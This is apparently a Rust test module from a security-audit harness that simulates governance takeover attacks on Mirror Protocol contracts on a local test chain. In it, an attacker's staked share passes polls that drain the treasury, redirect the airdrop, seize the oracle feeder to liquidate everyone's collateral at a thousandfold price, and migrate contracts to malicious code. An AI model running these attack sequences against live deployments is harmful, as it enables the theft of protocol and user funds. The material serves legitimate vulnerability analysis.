@@ -1,0 +1,333 @@
+//! What a part of the stake decides, by kind of poll.
+
+use cosmwasm_std::{to_json_binary, Decimal, Uint128, WasmMsg};
+use cw20::Cw20ExecuteMsg;
+use mirror_merkle::{leaf, Tree};
+use mirror_protocol::gov::{PollAdminAction, PollStatus, VoteOption};
+use mirror_protocol::{admin_manager, airdrop, community, factory};
+use mirror_testing::{percent, standard_profile, usual_listing, Actor, TestChain, World};
+use serde_json::json;
+use terraswap::asset::Asset;
+
+use super::super::bundle::{base, Bundle};
+use super::super::polls::{self, Motion, PURSE};
+use super::super::scenes::{self, DAY, MILLION, UNIT};
+use super::super::stage::Stage;
+use super::super::told::{Attempt, Exposure, Findings, Report};
+use super::super::{evil, Attack};
+
+pub(super) const ATTACK: Attack = Attack {
+    name: super::CAPTURED,
+    story:
+        "What a fifth, a third, a majority and two thirds of the stake decide, by kind of poll: \
+            where the quorum or the threshold is out of reach nothing, and else what the kind may \
+            do, of a treasury of 36.6 million MIR, an airdrop of 9.15, a pool of a million coins \
+            and twelve million in mint.",
+    run,
+};
+
+/// The kinds of polls, and what the attacker has each of them do.
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Kind {
+    /// Two grants.
+    Default,
+    /// A list for the airdrop with one account on it.
+    Execute,
+    /// A feeder's key, and with it everybody's collateral.
+    Feeder,
+    /// A pair's code.
+    ExecuteCode,
+    /// The treasury's code and mint's.
+    Migration,
+    /// The right to claim all code.
+    AuthAdmin,
+}
+
+const KINDS: [(Kind, &str); 6] = [
+    (
+        Kind::Default,
+        "a default poll: two grants of a million in 30 days",
+    ),
+    (Kind::Execute, "execute: the airdrop's list"),
+    (Kind::Feeder, "execute: the feeder of an asset"),
+    (Kind::ExecuteCode, "execute with code: a pair's"),
+    (Kind::Migration, "a migration: the treasury and mint"),
+    (Kind::AuthAdmin, "another admin action: a claim of all code"),
+];
+
+/// Who votes.
+#[derive(Clone, Copy)]
+struct House {
+    /// What the attacker has staked.
+    own: u128,
+    /// The same in a word or two.
+    part: &'static str,
+    /// Whether all others say no.
+    resists: bool,
+}
+
+const HOUSES: [(House, &str); 6] = [
+    (
+        quiet(201, "a fifth"),
+        "a fifth of the stake, nobody else votes",
+    ),
+    (
+        quiet(334, "a third"),
+        "a third of the stake, nobody else votes",
+    ),
+    (quiet(501, "a majority"), "a majority, nobody else votes"),
+    (resisted(334, "a third"), "a third, all others say no"),
+    (resisted(501, "a majority"), "a majority, all others say no"),
+    (resisted(668, "two thirds"), "two thirds, all others say no"),
+];
+
+const fn quiet(thousandths: u128, part: &'static str) -> House {
+    House {
+        own: polls::part(thousandths),
+        part,
+        resists: false,
+    }
+}
+
+const fn resisted(thousandths: u128, part: &'static str) -> House {
+    House {
+        own: polls::part(thousandths),
+        part,
+        resists: true,
+    }
+}
+
+/// The exposures as a table: by kind of poll who takes what.
+pub struct Matrix<'a> {
+    /// The part of the stake, and whether the others vote.
+    pub heads: [[&'static str; 2]; 6],
+    /// Nothing where the poll is rejected.
+    pub rows: [(&'static str, [Option<&'a Exposure>; 6]); 6],
+}
+
+impl<'a> Matrix<'a> {
+    /// Of this attack only.
+    pub fn of(report: &'a Report) -> Option<Self> {
+        let exposure = |when: String| report.exposures.iter().find(|one| one.when == when);
+        let cells = |what| HOUSES.map(|(_, who)| exposure(told(who, what)));
+        let others = |house: House| if house.resists { "against" } else { "alone" };
+
+        (report.name == super::CAPTURED).then(|| Self {
+            heads: HOUSES.map(|(house, _)| [house.part, others(house)]),
+            rows: KINDS.map(|(_, what)| (what, cells(what))),
+        })
+    }
+}
+
+/// How an exposure is called.
+fn told(who: &str, what: &str) -> String {
+    format!("{who}: {what}")
+}
+
+fn run() -> anyhow::Result<Findings> {
+    let mut attempts = vec![];
+    let mut exposures: Vec<Exposure> = vec![];
+    for (house, who) in HOUSES {
+        let mut refused = vec![];
+        for (kind, what) in KINDS {
+            let (attempt, status) = decides(kind, house)?;
+            let told = told(who, what);
+            match status {
+                PollStatus::Executed => exposures.push(attempt.exposes(told)),
+                _ => refused.push(attempt),
+            }
+        }
+        if !refused.is_empty() {
+            let tried = format!("{who}: of the six actions {} are rejected", refused.len());
+            attempts.push(Attempt::best(refused, tried)?);
+        }
+    }
+    Ok(Findings {
+        attempts,
+        exposures,
+    })
+}
+
+fn decides(kind: Kind, house: House) -> anyhow::Result<(Attempt, PollStatus)> {
+    let mut stage = prepared(house)?;
+    let mut status = PollStatus::InProgress;
+    let mut open = vec![];
+    for motion in motions(&mut stage, kind)? {
+        let poll_id = polls::proposes(&mut stage, "T-61", &motion)?;
+        open.extend(poll_id.map(|poll_id| (poll_id, motion)));
+    }
+    for (poll_id, _) in &open {
+        polls::votes(&mut stage, *poll_id)?;
+        if house.resists {
+            for name in ["alice", "bob", "carol"] {
+                stage.world.actor(name).votes(*poll_id, VoteOption::No);
+            }
+        }
+    }
+    for (poll_id, motion) in open {
+        status = polls::concludes(&mut stage, "T-61", poll_id, &motion)?;
+    }
+    if status == PollStatus::Executed {
+        takes(&mut stage, kind)?;
+    }
+    polls::leaves(&mut stage)?;
+    Ok((stage.ends(String::new())?, status))
+}
+
+/// A governed protocol with something in every purse, 31 days after the hand-over.
+fn prepared(house: House) -> anyhow::Result<Stage> {
+    let mut profile = standard_profile(&TestChain::new());
+    profile.oracle_max_deviation = None;
+    profile.assets = vec![usual_listing("mAAPL")];
+    let mut world = World::governed_as(profile);
+    world.chain.pass(31 * DAY);
+    world.feeds(&[("mAAPL", "10")]);
+    scenes::pool(&mut world, "mAAPL", MILLION);
+    world.bob().opens(10 * MILLION, "mAAPL", percent(200));
+    let (attacker, who) = (world.chain.account("attacker"), world.at.factory.clone());
+    let mirror = world.at.mirror_token.clone();
+    // The genesis has not so much that is nobody's.
+    let mint = Cw20ExecuteMsg::Mint {
+        recipient: attacker.to_string(),
+        amount: Uint128::new(house.own + PURSE),
+    };
+    let world_ref = &mut world;
+    Actor {
+        world: world_ref,
+        who,
+    }
+    .tries(&mirror, &mint, &[])?;
+    world.actor("attacker").tries_to_stake_mir(house.own)?;
+    world.chain.pass(6);
+    let prices = [
+        ("mAAPL", scenes::price("10")?),
+        ("MIR", scenes::price("0.5")?),
+    ];
+    Stage::new(world, &prices)
+}
+
+fn motions(stage: &mut Stage, kind: Kind) -> anyhow::Result<Vec<Motion>> {
+    let at = stage.world.at.clone();
+    let attacker = stage.attacker.to_string();
+    let code_id = stage.world.chain.app.store_code(evil::code());
+    Ok(match kind {
+        Kind::Default => {
+            let spend = community::ExecuteMsg::Spend {
+                recipient: attacker,
+                amount: Uint128::new(MILLION),
+            };
+            let grant = Motion::call(&at.community, &spend)?;
+            vec![grant.clone(), grant]
+        }
+        Kind::Execute => {
+            let (tree, _) = list(stage)?;
+            let list = airdrop::ExecuteMsg::RegisterMerkleRoot {
+                merkle_root: tree.root().to_string(),
+                total_amount: None,
+                expiration: None,
+            };
+            vec![Motion::execute(&at.uni_airdrop, &list)?]
+        }
+        Kind::Feeder => {
+            let register = json!({ "register_asset": {
+                "asset_token": stage.world.token("mAAPL"), "feeder": attacker,
+            } });
+            let pass = factory::ExecuteMsg::PassCommand {
+                contract_addr: at.oracle.to_string(),
+                msg: to_json_binary(&register)?,
+            };
+            vec![Motion::execute(&at.factory, &pass)?]
+        }
+        Kind::ExecuteCode => {
+            let migrate = terraswap::factory::ExecuteMsg::MigratePair {
+                contract: stage.world.asset("mAAPL").pair.into_string(),
+                code_id: Some(code_id),
+            };
+            vec![Motion::execute(&at.swap_factory, &migrate)?]
+        }
+        Kind::Migration => {
+            let msg = to_json_binary(&evil::MigrateMsg {
+                thief: Some(stage.attacker.clone()),
+                token: Some(at.mirror_token),
+            })?;
+            let both = [at.community, at.mint];
+            let migrations = both.map(|contract| (contract.into_string(), code_id, msg.clone()));
+            let migrations = migrations.to_vec();
+            vec![Motion::admin(PollAdminAction::ExecuteMigrations {
+                migrations,
+            })]
+        }
+        Kind::AuthAdmin => vec![Motion::admin(PollAdminAction::AuthorizeClaim {
+            authorized_addr: attacker,
+        })],
+    })
+}
+
+/// What is left in the airdrop to UNI holders.
+fn list(stage: &Stage) -> anyhow::Result<(Tree, Uint128)> {
+    let at = &stage.world.at;
+    let left = stage.world.token_balance(&at.mirror_token, &at.uni_airdrop);
+    let tree = Tree::new(vec![leaf(stage.attacker.as_str(), left)])?;
+    Ok((tree, left))
+}
+
+/// What the poll has opened is carried away.
+fn takes(stage: &mut Stage, kind: Kind) -> anyhow::Result<()> {
+    let at = stage.world.at.clone();
+    if kind == Kind::Execute {
+        let (_, amount) = list(stage)?;
+        let claim = airdrop::ExecuteMsg::Claim {
+            stage: 1,
+            amount,
+            proof: vec![],
+            address: None,
+        };
+        stage.does(Bundle::new().tells(&at.uni_airdrop, &claim))?;
+    }
+    if kind == Kind::Feeder {
+        buys_out(stage)?;
+    }
+    if kind == Kind::AuthAdmin {
+        let new_code_id = stage.world.chain.app.store_code(evil::code());
+        let msg = to_json_binary(&evil::MigrateMsg {
+            thief: Some(stage.attacker.clone()),
+            token: Some(at.mirror_token),
+        })?;
+        for contract in [at.community, at.mint] {
+            let claim = admin_manager::ExecuteMsg::ClaimAdmin {
+                contract: contract.to_string(),
+            };
+            let migrate = WasmMsg::Migrate {
+                contract_addr: contract.into_string(),
+                new_code_id,
+                msg: msg.clone(),
+            };
+            let mut bundle = Bundle::new().tells(&at.admin_manager, &claim);
+            bundle.messages.push(Ok(migrate.into()));
+            stage.does(bundle)?;
+        }
+    }
+    Ok(())
+}
+
+/// At a price a thousand times the fair one every position is for sale for next to nothing: the
+/// debt that buys it out is minted at the fair one before.
+fn buys_out(stage: &mut Stage) -> anyhow::Result<()> {
+    let (at, token) = (stage.world.at.clone(), stage.world.token("mAAPL"));
+    let post =
+        |price: u128| Bundle::new().feeds(&at.oracle, &token, Decimal::from_ratio(price, 1u128));
+    stage.world.chain.pass(6);
+    stage.does(post(10))?;
+    let paid = base(50_000 * UNIT);
+    stage.does(Bundle::new().opens(&at.mint, paid, &token, percent(200)))?;
+    stage.world.chain.pass(6);
+    stage.does(post(10_000))?;
+    for idx in 1..=2u128 {
+        let part = Asset::token(&token, PRICE_OF_ALL);
+        stage.does(Bundle::new().auctions(&at.mint, idx.into(), part))?;
+    }
+    Ok(())
+}
+
+/// More than buys ten million coins at a price of 10,000 and a discount of a fifth.
+const PRICE_OF_ALL: u128 = 1_200 * UNIT;
